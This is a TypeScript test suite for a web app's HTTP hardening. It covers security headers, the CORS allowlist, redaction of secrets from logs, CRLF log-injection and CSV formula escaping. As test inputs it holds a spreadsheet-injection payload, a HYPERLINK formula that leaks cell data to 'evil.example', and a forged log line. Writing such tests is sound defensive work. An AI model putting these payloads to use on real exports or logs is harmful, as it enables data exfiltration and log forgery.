import { randomUUID } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { connect, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DestinationStream } from 'pino';
import request from 'supertest';
import { CSRF_HEADER_NAME, refreshCookieHeader, refreshCookieOf } from './support/auth-helpers';
import { createStaff, createTenantUser, signIn, TEST_PASSWORD, uniqueIp } from './support/factories';
import { startTestApp, type TestApp } from './support/test-app';

const LISTED_ORIGIN = 'https://console.example.com';
const OTHER_LISTED_ORIGIN = 'http://localhost:5173';

/** Every line the app logs, as pino writes it. */
class CapturedLog implements DestinationStream {
  readonly writes: string[] = [];

  write(chunk: string): void {
    this.writes.push(chunk);
  }

  get text(): string {
    return this.writes.join('');
  }

  records(): Record<string, unknown>[] {
    return this.writes.map((line) => JSON.parse(line));
  }

  /** Waits for the request line of `requestId` (pino-http writes it once the answer has gone out). */
  async requestLine(requestId: string): Promise<{ req: { url: string; query: Record<string, unknown>; headers: Record<string, unknown> }; res: { statusCode: number } }> {
    for (let attempt = 0; attempt < 100; attempt++) {
      const line = this.records().find((record) => (record.req as { id?: string } | undefined)?.id === requestId && record.res);
      if (line) return line as never;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    throw new Error(`No log line for request ${requestId}: ${this.text.slice(-3000)}`);
  }
}

/** The directives of a Content-Security-Policy header, by name. */
function directives(header: string): Record<string, string[]> {
  return Object.fromEntries(header.split(';').map((directive) => directive.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
}

/** RFC 4180, enough for the exports: quoted cells, doubled quotes, line breaks inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const character = text[index];
    if (quoted && character === '"' && text[index + 1] === '"') {
      cell += '"';
      index++;
    } else if (character === '"') {
      quoted = !quoted;
    } else if (!quoted && character === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && character === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else {
      cell += character;
    }
  }
  return rows;
}

describe('HTTP hardening', () => {
  // Default settings (no CORS_ORIGINS), serving a console build.
  let plain: TestApp;
  // CORS_ORIGINS set, logging at info into `log`, no console build (so console paths reach the logged API).
  let configured: TestApp;
  const log = new CapturedLog();

  beforeAll(async () => {
    const webDist = mkdtempSync(join(tmpdir(), 'keel-web-'));
    writeFileSync(join(webDist, 'index.html'), '<!doctype html><html><body><div id="root"></div><script type="module" src="/assets/index.js"></script></body></html>');
    plain = await startTestApp({ WEB_DIST_DIR: webDist });
    configured = await startTestApp({ CORS_ORIGINS: `${LISTED_ORIGIN},${OTHER_LISTED_ORIGIN}`, LOG_LEVEL: 'info', WEB_DIST_DIR: mkdtempSync(join(tmpdir(), 'keel-no-web-')) }, log);
  });
  afterAll(async () => {
    await plain.close();
    await configured.close();
  });

  describe('security headers', () => {
    it('serves the console with a CSP that runs no inline or foreign script, and no referrer, framing or device access', async () => {
      const response = await request(plain.http).get('/platform/login').set('Accept', 'text/html').expect(200);
      expect(response.text).toContain('<div id="root">');
      const policy = directives(response.headers['content-security-policy']);
      expect(policy).toMatchObject({
        'default-src': ["'self'"],
        'script-src': ["'self'"],
        'object-src': ["'none'"],
        'base-uri': ["'self'"],
        'frame-ancestors': ["'none'"],
        'form-action': ["'self'"],
        'img-src': ["'self'", 'data:'],
        'connect-src': ["'self'"],
      });
      expect(response.headers['content-security-policy']).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
      expect(response.headers['referrer-policy']).toBe('no-referrer');
      expect(response.headers['permissions-policy']).toMatch(/camera=\(\)/);
      expect(response.headers['x-frame-options']).toBe('DENY');
      // Demo and test mode run over plain http: no HSTS there (production sends it).
      expect(response.headers['strict-transport-security']).toBeUndefined();
    });

    it('sends the same headers with API answers, errors included', async () => {
      const console = await request(plain.http).get('/login').set('Accept', 'text/html').expect(200);
      const api = await request(plain.http).get('/api/v1/me').expect(401);
      for (const header of ['content-security-policy', 'referrer-policy', 'permissions-policy', 'x-content-type-options', 'x-frame-options']) {
        expect(api.headers[header]).toBe(console.headers[header]);
      }
    });

    it('serves Swagger UI under the same policy: every script it runs is a file of this origin', async () => {
      const page = await request(plain.http).get('/api/docs').expect(200);
      expect(page.headers['content-security-policy']).toBe((await request(plain.http).get('/login').set('Accept', 'text/html')).headers['content-security-policy']);
      const scripts = [...page.text.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
      expect(scripts.length).toBeGreaterThan(0);
      for (const [, attributes, body] of scripts) {
        expect(body.trim()).toBe('');
        const source = new URL(/src=["']([^"']+)["']/.exec(attributes)![1], 'http://keel.test/api/docs');
        expect(source.origin).toBe('http://keel.test');
        expect(source.pathname).toMatch(/^\/api\/docs\/[\w.-]+\.js$/);
        const script = await request(plain.http).get(source.pathname).expect(200);
        expect(script.headers['content-type']).toMatch(/javascript/);
      }
    });
  });

  describe('CORS', () => {
    const preflight = (test: TestApp, origin: string) =>
      request(test.http).options('/api/v1/auth/login').set('Origin', origin).set('Access-Control-Request-Method', 'POST').set('Access-Control-Request-Headers', 'content-type,idempotency-key');

    it.each([LISTED_ORIGIN, OTHER_LISTED_ORIGIN])('lets the listed origin %s read answers, with credentials', async (origin) => {
      const response = await request(configured.http).get('/api/v1/me').set('Origin', origin).expect(401);
      expect(response.headers['access-control-allow-origin']).toBe(origin);
      expect(response.headers['access-control-allow-credentials']).toBe('true');
      expect(response.headers['access-control-expose-headers']).toMatch(/X-Request-Id/);
      expect(response.headers.vary).toMatch(/Origin/);
    });

    it('answers a listed origin’s preflight with the methods and headers it may use', async () => {
      const response = await preflight(configured, LISTED_ORIGIN).expect(204);
      expect(response.headers['access-control-allow-origin']).toBe(LISTED_ORIGIN);
      expect(response.headers['access-control-allow-credentials']).toBe('true');
      expect(response.headers['access-control-allow-methods']).toMatch(/POST/);
      expect(response.headers['access-control-allow-headers']).toMatch(/Content-Type/);
      expect(response.headers['access-control-allow-headers']).toMatch(/Idempotency-Key/);
    });

    it.each(['https://evil.example', 'http://console.example.com', 'https://console.example.com:8443', 'https://console.example.com.evil.example', 'null'])(
      'gives the unlisted origin %s no CORS header, on answers and on preflights',
      async (origin) => {
        for (const response of [await request(configured.http).get('/api/v1/me').set('Origin', origin), await preflight(configured, origin)]) {
          expect(response.status).toBeLessThan(500);
          expect(response.headers['access-control-allow-origin']).toBeUndefined();
          expect(response.headers['access-control-allow-credentials']).toBeUndefined();
          expect(response.headers['access-control-allow-methods']).toBeUndefined();
        }
      },
    );

    it('gives no origin a CORS header when CORS_ORIGINS is unset', async () => {
      for (const response of [await request(plain.http).get('/api/v1/me').set('Origin', LISTED_ORIGIN), await preflight(plain, LISTED_ORIGIN)]) {
        expect(response.headers['access-control-allow-origin']).toBeUndefined();
        expect(response.headers['access-control-allow-methods']).toBeUndefined();
      }
    });

    it('still serves the console’s own origin, which needs no entry in the list', async () => {
      const user = await createTenantUser(configured);
      const response = await request(configured.http)
        .post('/api/v1/auth/login')
        .set('Origin', configured.config.publicUrl)
        .set('X-Forwarded-For', uniqueIp())
        .send({ email: user.email, password: TEST_PASSWORD })
        .expect(200);
      expect(response.body.access_token).toEqual(expect.any(String));
      expect(response.headers['access-control-allow-origin']).toBeUndefined();
    });
  });

  describe('logs', () => {
    const secret = (label: string) => `${label}-${randomUUID()}`;
    const withId = (test: request.Test) => {
      const id = randomUUID();
      return { id, response: test.set('X-Request-Id', id) };
    };

    it('never writes a password, token, TOTP code, API key, ingest key or refresh cookie, wherever the request carried it', async () => {
      const http = configured.http;
      const user = await createTenantUser(configured);
      const wrongPassword = secret('password');
      const apiKey = `keel_${randomUUID().replace(/-/g, '')}`;
      const ingestKey = secret('ingest');
      const mfaToken = secret('mfa');
      const totpCode = '918273';
      const [queryToken, queryCode, queryKey, inviteToken] = [secret('qtoken'), secret('qcode'), secret('qkey'), secret('invite')];
      const malformedPassword = secret('malformed');
      const newPassword = secret('new-password');

      const login = await request(http).post('/api/v1/auth/login').set('X-Forwarded-For', uniqueIp()).send({ email: user.email, password: TEST_PASSWORD, cookie: true }).expect(200);
      const accessToken: string = login.body.access_token;
      const cookie = refreshCookieOf(login)!.value;
      const refreshed = await request(http).post('/api/v1/auth/refresh').set('Cookie', refreshCookieHeader(cookie)).set(CSRF_HEADER_NAME, '1').send({ cookie: true }).expect(200);
      const { access_token: renewedToken, refresh_token: bodyRefreshToken } = (await request(http).post('/api/v1/auth/login').set('X-Forwarded-For', uniqueIp()).send({ email: user.email, password: TEST_PASSWORD })).body;

      const requests = [
        withId(request(http).post('/api/v1/auth/login').set('X-Forwarded-For', uniqueIp()).send({ email: user.email, password: wrongPassword })),
        withId(request(http).get('/api/v1/me').auth(accessToken, { type: 'bearer' })),
        withId(request(http).get('/api/v1/me').auth(refreshed.body.access_token, { type: 'bearer' })),
        withId(request(http).post('/api/v1/auth/refresh').send({ refresh_token: bodyRefreshToken })),
        withId(request(http).get('/api/v1/platform/stats').auth(apiKey, { type: 'bearer' })),
        withId(request(http).post('/api/v1/auth/mfa/verify').send({ mfa_token: mfaToken, code: totpCode })),
        withId(request(http).post('/api/v1/telemetry/api-calls').set('X-Ingest-Key', ingestKey).send({ events: [] })),
        withId(request(http).post('/api/v1/auth/password').auth(renewedToken, { type: 'bearer' }).send({ current_password: wrongPassword, new_password: newPassword })),
        withId(request(http).get(`/api/v1/platform/orgs?token=${queryToken}&code=${queryCode}&key=${queryKey}&search=visible`)),
      ];
      // Not logged per request today (a body that fails to parse never reaches the request logger, which covers /api/v1),
      // but whatever is logged about them must not hold the secret either.
      const unlogged = [
        request(http).post('/api/v1/auth/login').set('Content-Type', 'application/json').send(`{"email":"${user.email}","password":"${malformedPassword}"`).expect(400),
        request(http).get(`/accept-invite?realm=platform&token=${inviteToken}`).expect(404),
      ];
      for (const { response } of requests) expect((await response).status).toBeLessThan(500);
      await Promise.all(unlogged);
      const lines = await Promise.all(requests.map(({ id }) => log.requestLine(id)));

      const secrets = [TEST_PASSWORD, wrongPassword, newPassword, malformedPassword, accessToken, renewedToken, refreshed.body.access_token, bodyRefreshToken, cookie, refreshCookieOf(refreshed)!.value, apiKey, ingestKey, mfaToken, queryToken, queryCode, queryKey, inviteToken];
      for (const value of secrets) expect(log.text).not.toContain(value);
      expect(log.text).not.toMatch(new RegExp(`(?<!\\d)${totpCode}(?!\\d)`));

      // The lines are there, with what is safe to keep.
      expect(lines[1].req.headers.authorization).toBe('[redacted]');
      expect(lines[0].res.statusCode).toBe(401);
      expect(lines[8].req.url).toBe('/api/v1/platform/orgs?token=[redacted]&code=[redacted]&key=[redacted]&search=visible');
      expect(lines[8].req.query).toEqual({ token: '[redacted]', code: '[redacted]', key: '[redacted]', search: 'visible' });
    });

    it('writes each entry as one JSON line, whatever line breaks the request smuggles in', async () => {
      const forged = '{"level":60,"msg":"forged"}';
      const inQuery = withId(request(configured.http).get(`/api/v1/platform/orgs?search=a${encodeURIComponent(`\r\n${forged}`)}`));
      const inPath = withId(request(configured.http).get(`/api/v1/nothing-here${encodeURIComponent(`\n${forged}`)}`));
      const inUserAgent = withId(request(configured.http).get('/api/v1/me').set('User-Agent', `agent%0d%0a${forged}`));
      for (const { response } of [inQuery, inPath, inUserAgent]) expect((await response).status).toBeLessThan(500);
      const queryLine = await log.requestLine(inQuery.id);
      expect(queryLine.req.query.search).toBe(`a\r\n${forged}`);
      await log.requestLine(inPath.id);
      await log.requestLine(inUserAgent.id);

      // A raw line break inside a header never reaches the app: Node's parser refuses the request.
      const server = configured.http.listen(0);
      try {
        const { port } = server.address() as AddressInfo;
        const answer = await new Promise<string>((resolve, reject) => {
          const socket = connect(port, '127.0.0.1', () => socket.write(`GET /api/v1/me HTTP/1.1\r\nHost: keel.test\r\nUser-Agent: a\rb\r\nX-Request-Id: ${randomUUID()}\r\n\r\n`));
          let received = '';
          socket.on('data', (chunk) => (received += chunk.toString('utf8')));
          socket.on('end', () => resolve(received));
          socket.on('error', reject);
        });
        expect(answer).toMatch(/^HTTP\/1\.1 400/);
      } finally {
        server.close();
      }

      for (const write of log.writes) {
        expect(write.endsWith('\n')).toBe(true);
        expect(write.slice(0, -1)).not.toMatch(/[\r\n]/);
      }
      expect(log.records().filter((record) => record.msg === 'forged')).toEqual([]);
    });
  });

  describe('CSV exports', () => {
    const formulaLeading = /^[=+\-@\t\r]/;
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const userAgent = '@SUM(1+1)*cmd';

    function expectNoFormulaCells(csv: string): string[][] {
      const rows = parseCsv(csv);
      expect(rows.length).toBeGreaterThan(1);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(formulaLeading);
      return rows;
    }

    it('writes formula-leading fields of the platform log as text', async () => {
      const staff = await signIn(configured, await createStaff(configured));
      const slug = `csv-${randomUUID().slice(0, 8)}`;
      await request(configured.http)
        .post('/api/v1/platform/orgs')
        .auth(staff.accessToken, { type: 'bearer' })
        .set('User-Agent', userAgent)
        .send({ name: hyperlink, slug, plan: 'pro', owner_email: `owner@${slug}.example` })
        .expect(201);

      const csv = await request(configured.http).get('/api/v1/platform/audit-log').query({ format: 'csv', action: 'platform.org_created' }).auth(staff.accessToken, { type: 'bearer' }).expect(200);
      const [header, ...rows] = expectNoFormulaCells(csv.text);
      const entry = rows.find((row) => row[header.indexOf('target_name')] === `'${hyperlink}`);
      expect(entry).toBeDefined();
      expect(entry![header.indexOf('user_agent')]).toBe(`'${userAgent}`);
    });

    it('writes formula-leading fields of an org log as text', async () => {
      const owner = await signIn(configured, await createTenantUser(configured));
      await request(configured.http).patch('/api/v1/org/settings').auth(owner.accessToken, { type: 'bearer' }).set('User-Agent', userAgent).send({ name: hyperlink }).expect(200);

      const csv = await request(configured.http).get('/api/v1/admin/audit-log').query({ format: 'csv' }).auth(owner.accessToken, { type: 'bearer' }).expect(200);
      const [header, ...rows] = expectNoFormulaCells(csv.text);
      const entry = rows.find((row) => row[header.indexOf('action')] === 'org.settings_updated');
      expect(entry![header.indexOf('user_agent')]).toBe(`'${userAgent}`);
      expect(entry![header.indexOf('metadata')]).toContain('HYPERLINK');
    });
  });
});
